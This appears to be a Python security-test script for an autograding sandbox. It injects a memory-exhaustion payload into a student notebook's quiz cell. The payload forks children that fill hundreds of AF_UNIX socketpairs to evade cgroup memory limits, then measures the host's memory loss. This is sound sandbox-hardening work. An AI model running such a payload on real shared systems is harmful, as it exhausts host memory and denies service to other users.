"""a02 (root): memory outside the cgroup by local (AF_UNIX) sockets. Round 13 and 15 capped TCP and UDP buffers
under cgroup v1 (`memory.kmem.tcp.limit_in_bytes`); data queued on AF_UNIX stream sockets (socketpair, never read)
is kernel memory (sk_buffs) charged to the socket's send buffer only. 12 forked children each open up to 550
socketpairs (1,100 descriptors, under the 1,280 cap) and fill both directions with non-blocking sends until
EAGAIN, aiming at about 2.6 GiB in all, under a memory cap lowered to 1 GiB (`run_grade --limits`), then hold it 40 s.
Measured from outside: the sandbox cgroup's memory usage and the host's MemAvailable. Honest ps1 graded beside."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common16 import *  # noqa
from attack_course import notebook  # noqa

HOG = r'''
import os, socket, time
def _meminfo():
    return {l.split(':')[0]: int(l.split()[1]) >> 10 for l in open('/proc/meminfo')}
_m0 = _meminfo()
_kids = []
_r, _w = os.pipe()
for _k in range(12):
    _pid = os.fork()
    if _pid == 0:
        os.close(_r)
        _pairs, _sent, _err = [], 0, ''
        _chunk = b'x' * 65536
        try:
            while len(_pairs) < 550 and _sent < 220 * 2**20:
                _a, _b = socket.socketpair()
                _pairs.append((_a, _b))
                for _s in (_a, _b):
                    _s.setblocking(False)
                    while True:
                        try:
                            _sent += _s.send(_chunk)
                        except BlockingIOError:
                            break
        except OSError as _e:
            _err = repr(_e)
        os.write(_w, f'child {_k}: {len(_pairs)} pairs, {_sent >> 20} MiB queued {_err}\n'.encode())
        time.sleep(300)
        os._exit(0)
    _kids.append(_pid)
os.close(_w)
_rep = b''
for _ in range(12):
    _rep += os.read(_r, 4096)
    if _rep.count(b'\n') >= 12:
        break
print(_rep.decode())
_m1 = _meminfo()
print('A16 inside: MemAvailable drop', _m0['MemAvailable'] - _m1['MemAvailable'], 'MiB; Slab', _m1['Slab'] - _m0['Slab'], 'MiB', flush=True)
time.sleep(40)
for _p in _kids:
    os.kill(_p, 9)
for _p in _kids:
    os.waitpid(_p, 0)
'''


def mutate(nb):
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "quiz_q1":
            c.source = HOG + "\nq1 = 'a'\n"


def main():
    d = course("/tmp/attack16-a02", {"alice_honest": honest(), "mallory": notebook(mutate=mutate)})
    s = Sampler(0.5)
    s.start()
    grade(d, limits={"memory_bytes": 2**30})
    s.stop = True
    s.join()
    print("measured from outside:", s.summary())
    show(d)
    import nbformat
    nb = nbformat.read(os.path.join(d, "autograded", "mallory", "ps1_memory", "ps1_memory.ipynb"), 4)
    for c in nb.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "quiz_q1":
            print("mallory's quiz_q1 outputs:", json.dumps(c.get("outputs", []))[:4000])
    cleanup(d)


if __name__ == "__main__":
    main()
